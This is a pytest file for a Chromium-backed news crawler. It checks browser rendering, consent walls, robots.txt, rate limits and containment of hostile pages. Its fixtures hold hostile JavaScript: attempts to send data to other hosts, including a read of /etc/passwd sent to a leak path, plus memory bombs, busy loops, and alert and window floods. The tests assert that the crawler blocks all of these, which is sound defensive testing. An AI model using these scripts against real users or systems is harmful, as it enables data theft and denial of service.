"""Pages that only a browser can show: real crawls with a real Chromium."""

from __future__ import annotations

import json
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from contextlib import closing
from dataclasses import asdict
from itertools import pairwise

import psutil
import pytest

from newscrawler.demo import script_truth
from tests.crawls import running
from tests.crawls.running import ROOT, Crawl, crawl
from tests.crawls.scripted_site import ScriptedSite, entries
from tests.crawls.test_demo import STATED

pytestmark = pytest.mark.needs("chromium")
FAST = {**running.FAST, "RENDER_TIMEOUT": 15}
MARK = "--newscrawler="


@pytest.fixture
def site():
    running_site = ScriptedSite()
    yield running_site
    running_site.stop()


def last_run(run: Crawl) -> dict:
    return json.loads(next(run.output.glob("*/last-run.json")).read_text())


def numbers(run: Crawl) -> list[int]:
    return sorted(int(story["url"].rpartition("/")[2]) for story in run.stories)


def journaled(run: Crawl) -> dict[str, str]:
    """Each page's address -> why it ended as it did, or waits."""
    file = next(run.output.glob(".journal/*.sqlite"))
    with closing(sqlite3.connect(file)) as database:
        return {url: reason or "" for url, reason in database.execute("SELECT url, reason FROM pages")}


def start_crawl(output, *words: str, settings=FAST) -> subprocess.Popen:
    given = [word for name, value in settings.items() for word in ("-s", f"{name}={value}")]
    line = [sys.executable, "-m", "scrapy", "crawl", "site", *words, "-s", f"OUTPUT_DIR={output}", *given]
    return subprocess.Popen(line, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def children(process: subprocess.Popen) -> list[psutil.Process]:
    try:
        return psutil.Process(process.pid).children(recursive=True)
    except psutil.Error:
        return []


def browsers(process: subprocess.Popen) -> list[psutil.Process]:
    """The crawl's Chromium: the processes that others are started from."""
    found = []
    for child in children(process):
        try:
            words = child.cmdline()
        except psutil.Error:
            continue
        if any(word.startswith(MARK) for word in words) and not any("--type=" in word for word in words):
            found.append(child)
    return found


# The demo's JavaScript edition ------------------------------------------------------------------------------


def test_the_javascript_demo_is_read_whole_and_without_a_browser_the_run_says_why(tmp_path):
    without = crawl(tmp_path, "-a", "site=demo-js", "-a", "render=never", settings={})
    assert without.code == 3, without.told()
    assert "needs-browser" in without.stderr
    assert "render is never" in without.stderr
    run = crawl(tmp_path, "-a", "site=demo-js", settings={}, timeout=250)
    assert run.code == 0, run.told()
    truth = {code: asdict(story) for code, story in script_truth().items()}
    assert sorted(story["story_code"] for story in run.stories) == sorted(truth), run.told()
    for story in run.stories:
        for field in STATED:
            expected = truth[story["story_code"]][field]
            assert story[field] == expected, (
                f"{field} of {story['url']}: {story[field]!r}, truth {expected!r}"
            )


def test_the_plain_demo_starts_no_process(tmp_path):
    process = start_crawl(tmp_path, "-a", "max_stories=40", settings={})
    seen = set()
    while process.poll() is None:
        for child in children(process):
            seen.add(child.pid)
        time.sleep(0.02)
    _, told = process.communicate()
    assert process.returncode == 0, told
    assert seen == set(), "a plain site's crawl started processes"


# Only where it is needed --------------------------------------------------------------------------------------


def test_where_a_tenth_of_the_pages_needs_it_hardly_more_are_shown(tmp_path, site):
    # Pages that meddle with what scripts are given do not get at ours.
    meddling = "Array.from = JSON.stringify = document.getElementsByTagName = () => { throw Error('no'); };"
    paths = [site.add_scripted(n, meddling) if n % 10 == 0 else site.add_plain(n) for n in range(1, 61)]
    site.add_front(paths)
    run = crawl(tmp_path, "-a", f"url={site.url}/", settings=FAST)
    assert run.code == 0, run.told()
    assert numbers(run) == list(range(1, 61))
    assert 6 <= last_run(run)["shown_in_browser"] <= 9
    asked = [path for path in site.paths if path.startswith("/news/")]
    assert len(asked) == len(set(asked)) == 60, "a page was asked for twice"


def test_a_listing_is_unfolded_behind_its_button_and_a_consent_wall(tmp_path, site):
    """Plain at first; its older stories come by "Load more", which a wall without a clear no stands before."""
    paths = [site.add_plain(n) for n in range(1, 19)]
    for number in range(3):
        step = entries(paths[5 * number + 3 : 5 * number + 8])
        site.pages[f"/more/{number}"] = 200, {"Content-Type": "text/html"}, step.encode()
    about = (
        "<p>The paper of the harbour and its ferries, every day but Sunday, since the first of them left.</p>"
        * 12
    )
    more = f"""{about}<button id="more">Load more stories</button>
      <div class="cookie-banner" role="dialog"><p>We use cookies.</p>
      <button onclick="fetch('/accepted')">Accept all</button>
      <button onclick="window.refused = true; this.parentNode.remove()">Only necessary cookies</button></div>
      <script>let step = 0; document.getElementById("more").onclick = async () => {{
        if (!window.refused) return;
        const answer = await fetch(`/more/${{step++}}`);
        if (answer.ok) document.getElementById("more").insertAdjacentHTML("beforebegin", await answer.text());
      }};</script>"""
    site.add_front(paths[:3], more)
    run = crawl(tmp_path, "-a", f"url={site.url}/", settings=FAST)
    assert run.code == 0, run.told()
    assert numbers(run) == list(range(1, 19))
    assert "/accepted" not in site.paths
    assert last_run(run)["shown_in_browser"] == 1
    assert [path for path in site.paths if path.startswith("/more")] == [
        "/more/0",
        "/more/1",
        "/more/2",
        "/more/3",
    ]
    again = crawl(tmp_path, "-a", f"url={site.url}/", settings=FAST)
    assert last_run(again)["shown_in_browser"] == 0, "a listing that has nothing new was unfolded"


def test_what_needs_it_is_remembered_with_a_probe_now_and_then(tmp_path, site):
    site.add_front([site.add_scripted(n) for n in range(1, 7)])
    first = crawl(tmp_path, "-a", f"url={site.url}/", settings=FAST)
    assert numbers(first) == list(range(1, 7)), first.told()
    site.add_front([site.add_scripted(n) for n in range(1, 13)])
    second = crawl(tmp_path, "-a", f"url={site.url}/", "-L", "INFO", settings=FAST)
    assert numbers(second) == list(range(1, 13)), second.told()
    assert "'browser/at_once': 5," in second.stderr, "five of six at once, one probed"


def test_without_a_browser_the_rest_is_read_and_the_next_run_has_what_was_left_out(tmp_path, site):
    paths = [site.add_scripted(n) if n > 8 else site.add_plain(n) for n in range(1, 13)]
    site.add_front(paths)
    without = crawl(tmp_path, "-a", f"url={site.url}/", settings={**FAST, "BROWSER": "/no/such/browser"})
    assert numbers(without) == list(range(1, 9)), without.told()
    assert without.code == 3, without.told()
    assert last_run(without)["pages"]["needs-browser"] == 4
    assert (
        "4 pages need a browser, beside 8 stories that were read: BROWSER names /no/such/browser"
        in without.stderr
    )
    assert without.stderr.count("playwright install chromium") >= 1
    assert without.stderr.count("WARNING") == 1, "it is told once"
    assert "Traceback" not in without.stderr
    site.log.clear()
    still = crawl(tmp_path, "-a", f"url={site.url}/", settings={**FAST, "BROWSER": "/no/such/browser"})
    assert not [path for path in site.paths if path.startswith("/news/")], "asked for again in vain"
    assert still.code == 0, still.told()
    second = crawl(tmp_path, "-a", f"url={site.url}/", settings=FAST)
    assert second.code == 0, second.told()
    assert numbers(second) == list(range(1, 13))


# What goes out --------------------------------------------------------------------------------------------------


def test_nothing_goes_out_that_the_crawl_would_not_send(tmp_path, site):
    """By every way that a page has, to another server on this machine, under several names."""
    other, home = ScriptedSite(), site.url
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", 0))
        datagrams.setblocking(False)
        port = datagrams.getsockname()[1]
        targets = [
            f"http://{host}:{other.port}" for host in ("127.0.0.1", "127.0.0.2", "localhost", "2130706433")
        ]
        targets += [
            f"http://[::ffff:127.0.0.1]:{other.port}",
            f"http://other.example:{other.port}",
            "http://10.0.0.1",
        ]
        script = f"""
          for (const target of {json.dumps(targets)}) {{
            fetch(target + "/fetch").catch(() => 0); fetch(target + "/nocors", {{mode: "no-cors", keepalive: true}});
            navigator.sendBeacon(target + "/beacon", "x"); new Image().src = target + "/image.png";
            for (const [tag, name] of [["script", "src"], ["iframe", "src"], ["embed", "src"], ["video", "src"]]) {{
              const element = document.createElement(tag); element[name] = target + "/" + tag;
              document.body.append(element); }}
            for (const rel of ["stylesheet", "prefetch", "preconnect", "dns-prefetch", "icon", "modulepreload"]) {{
              const link = document.createElement("link"); link.rel = rel; link.href = target + "/" + rel;
              document.head.append(link); }}
            try {{ new EventSource(target + "/events"); }} catch {{}}
            try {{ new WebSocket(target.replace("http", "ws") + "/socket"); }} catch {{}}
            const form = document.createElement("form"); form.method = "post"; form.action = target + "/form";
            form.target = "_blank"; document.body.append(form); form.submit(); window.open(target + "/window");
            const text = `fetch("${{target}}/worker")`;
            try {{ new Worker(URL.createObjectURL(new Blob([text]))); }} catch {{}}
            try {{ new SharedWorker(URL.createObjectURL(new Blob([text]))); }} catch {{}}
          }}
          try {{ const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}});
            peer.createDataChannel("x");
            peer.createOffer().then(offer => peer.setLocalDescription(offer)); }} catch {{}}
          try {{ navigator.serviceWorker.register("/worker.js"); }} catch {{}}
          fetch("file:///etc/passwd").then(answer => answer.text()).then(text => fetch("/leak?" + text)).catch(() => 0);
          fetch("/redirected").catch(() => 0);
        """
        site.pages["/worker.js"] = 200, {"Content-Type": "text/javascript"}, b"fetch('/from-service-worker')"
        site.pages["/redirected"] = 302, {"Location": f"{targets[0]}/redirected"}, b""
        site.add_front([site.add_scripted(1, script), site.add_plain(2), site.add_plain(3)])
        run = crawl(tmp_path, "-a", f"url={home}/", settings=FAST)
        assert numbers(run) == [1, 2, 3], run.told()
        assert other.log == []
        with pytest.raises(BlockingIOError):
            datagrams.recv(100)
    other.stop()
    assert "/redirected" in site.paths, "the script did not run to its end"
    odd = {
        path for path in site.paths if not path.startswith(("/news", "/api", "/robots", "/redirected", "/"))
    }
    assert odd == set()
    assert not any("leak" in path or "worker" in path for path in site.paths)
    agents = {asked.headers["user-agent"] for asked in site.log}
    assert agents == {"newscrawler/1.0"}, "a request was not the crawl's"


def test_robots_txt_holds_for_pages_and_for_what_they_ask_for(tmp_path, site):
    site.pages["/robots.txt"] = (
        200, {"Content-Type": "text/plain"}, b"User-agent: *\nDisallow: /api/2\nDisallow: /news/3\nCrawl-delay: 0.3\n"
    )  # fmt: skip
    site.add_front([site.add_scripted(n) for n in range(1, 5)])
    run = crawl(tmp_path, "-a", f"url={site.url}/", settings=FAST)
    assert numbers(run) == [1, 4], run.told()
    assert {"/api/2", "/news/3", "/api/3"}.isdisjoint(site.paths)
    pages = [asked.time for asked in site.log if asked.path.startswith("/news/")]
    assert all(later - earlier >= 0.28 for earlier, later in pairwise(pages))


# Whatever pages and processes do --------------------------------------------------------------------------------

HOSTILE = {
    "stays busy": ("while (true) {}", "busy for more than"),
    "memory": (
        "const kept = []; (function more() { for (let i = 0; i < 20; i++) kept.push(new Uint8Array(1 << 24).fill(1));"
        " setTimeout(more, 0); })();",
        "more than 500 MB of memory",
    ),
    "elements": (
        "(function more() { for (let i = 0; i < 20000; i++) document.body.append(document.createElement('div'));"
        " setTimeout(more, 0); })();",
        "",  # by its memory, its elements, or its time
    ),
    "dialogs": ("while (true) alert('now');", "dialogs without end"),
    "never at rest": (
        "setInterval(() => document.body.append(document.createElement('p')), 20);"
        "const go = () => fetch('/slow').then(go); go();",
        "did not come to rest",
    ),
    "windows": (
        "setInterval(() => { const a = document.createElement('a'); a.href = '/window'; a.target = '_blank';"
        "a.click(); }, 10);",
        "windows without end",
    ),
    "downloads": (
        "setInterval(() => { const a = document.createElement('a'); a.download = 'x.bin';"
        "a.href = URL.createObjectURL(new Blob(['x'.repeat(1e6)])); a.click(); }, 50);",
        "",
    ),
    "reloads": ("location.reload();", "again and again"),
    "wants others' data": ("fetch('http://other.example/data').then(answer => answer.text());", "see RENDER_HOSTS"),
    "leads away": ("location.href = 'http://other.example/';", "out of the crawl's scope"),
}  # fmt: skip


def test_hostile_pages_cost_no_other_page(tmp_path, site):
    good = [site.add_scripted(n) for n in range(1, 7)] + [site.add_plain(n) for n in range(7, 10)]
    bad = {
        site.add_hostile(100 + place, script): (name, reason)
        for place, (name, (script, reason)) in enumerate(HOSTILE.items())
    }
    site.pages["/slow"] = lambda path: (time.sleep(1), (200, {}, b"{}"))[1]
    site.add_front([*good, *bad])
    settings = {**FAST, "RENDER_TIMEOUT": 3, "RENDER_MEMORY": 500}
    run = crawl(tmp_path / "out", "-a", f"url={site.url}/", "-L", "INFO", settings=settings, timeout=200)
    assert numbers(run) == list(range(1, 10)), run.told()
    assert run.code == 0, run.told()
    assert "Traceback" not in run.stderr
    assert "never retrieved" not in run.stderr
    ended = journaled(run)
    for path, (name, reason) in bad.items():
        assert reason in ended[f"{site.url}{path}"], f"{name}: {ended[f'{site.url}{path}']}"
    assert last_run(run)["pages"].get("error", 0) >= 7
    peak = int(run.stderr.partition("'browser/memory_peak': ")[2].partition(",")[0])
    assert peak < 2_000_000_000, "memory was not bounded"
    assert "/window" not in site.paths
    assert not list(tmp_path.rglob("*.bin"))


def test_a_browser_that_is_killed_or_hangs_is_replaced_and_no_page_is_lost(tmp_path, site):
    site.add_front([site.add_scripted(n) for n in range(1, 17)])
    process = start_crawl(tmp_path, "-a", f"url={site.url}/", settings={**FAST, "RENDER_TIMEOUT": 4})
    doing = [psutil.Process.kill, psutil.Process.kill, psutil.Process.kill, psutil.Process.suspend]
    met: list[int] = []
    while process.poll() is None and len(met) < len(doing):
        shown = sum(path.startswith("/api/") for path in site.paths)
        if shown >= 2 + 3 * len(met):
            for browser in [one for one in browsers(process) if one.pid not in met][:1]:
                doing[len(met)](browser)
                met.append(browser.pid)
        time.sleep(0.02)
    _, told = process.communicate(timeout=200)
    run = Crawl(process.returncode, "", told, tmp_path)
    assert len(met) == len(doing), run.told()
    assert run.code == 0, run.told()
    assert numbers(run) == list(range(1, 17)), run.told()
    assert "Traceback" not in told
    assert not any(psutil.pid_exists(pid) and psutil.Process(pid).status() != "zombie" for pid in met)


@pytest.mark.parametrize(
    "end", [subprocess.Popen.terminate, subprocess.Popen.kill], ids=["SIGTERM", "SIGKILL"]
)
def test_a_crawl_that_is_ended_takes_its_browser_along(tmp_path, site, end):
    hung = threading.Event()
    site.pages["/slow"] = lambda path: (hung.wait(20), (200, {}, b"{}"))[1]
    site.add_front([site.add_hostile(n, "fetch('/slow')") for n in range(1, 4)])
    process = start_crawl(tmp_path, "-a", f"url={site.url}/", settings={**FAST, "RENDER_TIMEOUT": 3})
    while "/slow" not in site.paths:
        assert process.poll() is None
        time.sleep(0.05)
    started = children(process)
    end(process)
    _, told = process.communicate(timeout=60)
    hung.set()
    assert len(started) > 2
    assert "Traceback" not in told, told
    _, alive = psutil.wait_procs(started, timeout=10)
    assert [one for one in alive if one.status() != psutil.STATUS_ZOMBIE] == []


def test_a_site_that_says_not_now_to_a_script_is_given_its_pause(tmp_path, site):
    paths = [site.add_scripted(n) for n in range(1, 5)]
    answer, refused = site.pages["/api/3"], []

    def api(path):
        refused.append(path)
        return (429, {"Retry-After": "2"}, b"") if len(refused) == 1 else answer

    site.pages["/api/3"] = api
    site.add_front(paths)
    run = crawl(tmp_path, "-a", f"url={site.url}/", settings=FAST)
    assert run.code == 0, run.told()
    assert numbers(run) == [1, 2, 3, 4]
    first, second = (asked.time for asked in site.log if asked.path == "/api/3")
    assert second - first >= 1.9
    asked = [one.time for one in site.log if one.path.startswith("/news/")]
    assert not [moment for moment in asked if first + 0.5 < moment < first + 1.9], (
        "a page was loaded in the pause"
    )
